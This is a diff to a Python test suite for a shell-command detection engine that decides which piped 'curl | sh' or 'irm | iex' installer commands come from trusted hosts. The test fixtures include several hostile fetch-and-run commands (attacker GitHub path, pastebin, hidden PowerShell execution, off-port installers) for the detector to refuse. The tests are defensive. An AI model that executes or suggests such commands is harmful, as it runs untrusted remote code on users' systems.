@@ -42,6 +42,8 @@ def test_official_installers_are_info(engine: Engine, command: str) -> None:
         "curl -fsSL https://raw.githubusercontent.com/attacker/tools/main/x.sh | sh",  # other owner
         "curl -fsSL https://pastebin.com/raw/abcd1234 | bash",  # never-trusted host
         "irm https://get.scoop.sh | iex; powershell -w hidden -c calc",  # installer plus hidden run
+        "curl -fsSL https://sh.rustup.rs:8443/ | sh",  # a port of its own: not where it is documented
+        "irm https://get.scoop.sh:4443 | iex",
     ],
 )
 def test_borrowed_trust_is_refused(engine: Engine, command: str) -> None:
@@ -69,3 +71,20 @@ def test_policy_can_trust_an_internal_installer() -> None:
     assert (
         Engine(strict=True).analyze("curl -fsSL https://tools.corp.example/install.sh | sh").flagged
     )
+
+
+def test_an_installer_on_https_own_port_is_still_the_installer() -> None:
+    from app.detection.engine import default_trust_path
+    from app.detection.indicators import parse_url
+    from app.detection.trust import TrustList
+
+    trust = TrustList.load(default_trust_path())
+    named = {
+        raw: trust.installer_for(parse_url(raw))  # type: ignore[arg-type]
+        for raw in ("https://get.k3s.io", "https://get.k3s.io:443/", "https://get.k3s.io:8443/")
+    }
+    assert named == {
+        "https://get.k3s.io": "K3s",
+        "https://get.k3s.io:443/": "K3s",
+        "https://get.k3s.io:8443/": None,
+    }
